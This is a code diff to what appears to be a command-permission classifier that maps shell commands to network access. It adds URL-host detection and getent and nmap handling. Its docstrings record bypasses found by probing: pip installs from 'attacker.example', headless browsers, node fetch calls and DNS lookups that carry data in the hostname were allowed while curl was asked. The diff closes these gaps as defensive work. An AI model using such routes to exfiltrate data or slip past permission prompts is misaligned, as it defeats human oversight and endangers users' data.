@@ -35,11 +35,13 @@ __all__ = [
     "REMOTE_CLIENTS",
     "bash_socket",
     "file_url_path",
+    "getent_client",
     "host_of",
     "http_client",
     "lookup_client",
     "openssl_client",
     "remote_client",
+    "url_hosts",
 ]
 
 #: The programs each handler reads.
@@ -97,6 +99,33 @@ def file_url_path(url: str) -> str | None:
     if pattern is not None:
         path = posixpath.dirname(path[: pattern.start()]) or "/"
     return posixpath.normpath(path)
+
+
+#: A URL anywhere in a word: its scheme and the rest up to where its host ends.
+_URL_IN = re.compile(r"\b([A-Za-z][A-Za-z0-9+.-]*)://[^\s'\"`/?#)]*")
+
+
+def url_hosts(words: list[Word]) -> list[Action]:
+    """Network access to the host of each URL in ``words`` (not ``file:``; ``$H`` in a
+    host: one known only at run time), once each. For programs whose network use is not
+    modelled: a URL they are given is a host they reach (found probing: ``pip install -i
+    https://attacker.example/simple x``, ``xdg-open URL``, ``w3m``, ``chromium
+    --headless URL``, ``node -e "fetch('URL')"`` were allowed, ``curl`` to the same host
+    is asked).
+
+    >>> url_hosts([Word("--index-url=https://h.example/simple"), Word("x")])
+    [Network(host='h.example')]
+    """
+    found: list[Action] = []
+    for w in words:
+        for match in _URL_IN.finditer(w.text):
+            if match.group(1).lower() == "file":
+                continue
+            text = match.group(0)
+            action = Network(None if "$" in text or "`" in text else host_of(text))
+            if action not in found:
+                found.append(action)
+    return found
 
 
 def _hosts(urls: list[Word], uploads: bool = False) -> list[Action]:
@@ -194,7 +223,7 @@ def remote_client(name: str, args: list[Word], cwd: str | None) -> list[Action] 
 #: was allowed, while ``curl`` to the same host is asked).
 LOOKUP_CLIENTS = ("dig", "nslookup", "host", "drill", "delv", "ping", "ping6", "fping",
                   "traceroute", "traceroute6", "tracepath", "mtr", "whois", "ftp", "lftp",
-                  "tftp")  # fmt: skip
+                  "tftp", "ssh-keyscan", "nmap")  # fmt: skip
 _LOOKUP_WITH_ARG = option_set(
     "-p -t -c -f -k -y -b -q -i -w -W -s -I -Q -l -M -N -R -m -h -T -P -u -U -o -x"
 )
@@ -217,6 +246,24 @@ def lookup_client(name: str, args: list[Word], cwd: str | None) -> list[Action] 
              and not w.text.startswith("+")]  # fmt: skip
     named += [w for w in opts.get("-x", []) if w is not None]
     return [Network(None if w.dynamic else host_of(w.text.lstrip("@"))) for w in named] or None
+
+
+#: ``getent`` databases whose keys are looked up in DNS.
+_GETENT_DNS = frozenset({"hosts", "ahosts", "ahostsv4", "ahostsv6"})
+
+
+def getent_client(name: str, args: list[Word], cwd: str | None) -> list[Action] | None:
+    """``getent hosts NAME``: a DNS lookup of each name, as ``dig NAME`` (found probing:
+    allowed, carrying data in the name). Other databases and no key: None.
+
+    >>> getent_client("getent", [Word("ahosts"), Word("x.example.com")], None)
+    [Network(host='x.example.com')]
+    """
+    del name, cwd
+    words = [w for w in args if not w.text.startswith("-")]
+    if not words[1:] or words[0].dynamic or words[0].text not in _GETENT_DNS:
+        return None
+    return [Network(None if w.dynamic else host_of(w.text)) for w in words[1:]]
 
 
 def openssl_client(name: str, args: list[Word], cwd: str | None) -> list[Action] | None:
